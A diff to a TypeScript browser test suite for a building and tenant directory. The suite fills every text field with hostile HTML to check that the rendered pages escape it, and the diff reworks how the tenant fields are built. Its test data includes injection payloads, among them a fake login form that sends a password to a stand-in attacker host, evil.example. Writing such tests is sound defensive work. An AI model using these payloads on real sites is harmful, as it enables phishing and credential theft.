@@ -1,6 +1,6 @@
 import type { Browser, BrowserContextOptions, Page } from 'playwright';
 import { afterAll, beforeAll, expect, test } from 'vitest';
-import { tenantFields } from '../src/modules/directory/tenant-fields.ts';
+import { type LineKind, publicDetails } from '../src/modules/directory/values.ts';
 import { propertyInput } from '../src/modules/tenancy/schema.ts';
 import { openBrowser, openPage } from '../test/harness/browser.ts';
 import { addTenant, ownBuilding } from '../test/harness/factories.ts';
@@ -13,7 +13,7 @@ const logIn = '<form action="https://evil.example" data-pwned><input name=passwo
 const hostile = `${breakOut}${redirect}${logIn}<!--<script>`;
 const hostileUrl = `https://pictures.example/${breakOut.replaceAll(' ', '/')}`;
 
-/** Every field of a building and of a tenant that holds text. */
+/** Every field of a building that holds text. */
 const building = {
   name: hostile,
   address: hostile,
@@ -24,13 +24,17 @@ const building = {
   imageUrl: hostileUrl,
   logoUrl: hostileUrl,
 };
-const tenant = {
-  companyName: hostile,
-  suiteNumber: breakOut.slice(0, 50),
+const hostileLine: Readonly<Record<LineKind, string>> = {
+  text: breakOut.slice(0, 50),
+  names: hostile,
   phone: breakOut.slice(0, 50),
   email: `x'y@tenant.example`,
   website: hostileUrl,
-  aliases: hostile,
+};
+const tenant = {
+  companyName: hostile,
+  suiteNumber: breakOut.slice(0, 50),
+  ...Object.fromEntries(Object.entries(publicDetails).map(([key, kind]) => [key, hostileLine[kind]])),
 };
 
 let product: Product;
@@ -58,8 +62,6 @@ test('the hostile building has a text in every field that takes one', () => {
   expect(Object.keys({ ...propertyInput.shape }).filter((key) => !settings.includes(key))).toEqual(
     Object.keys(building),
   );
-  const others = ['floorNumber', 'movesIn', 'movesOut'];
-  expect(Object.keys(tenantFields).filter((key) => !others.includes(key))).toEqual(Object.keys(tenant));
 });
 
 const ways: readonly [name: string, options: BrowserContextOptions][] = [
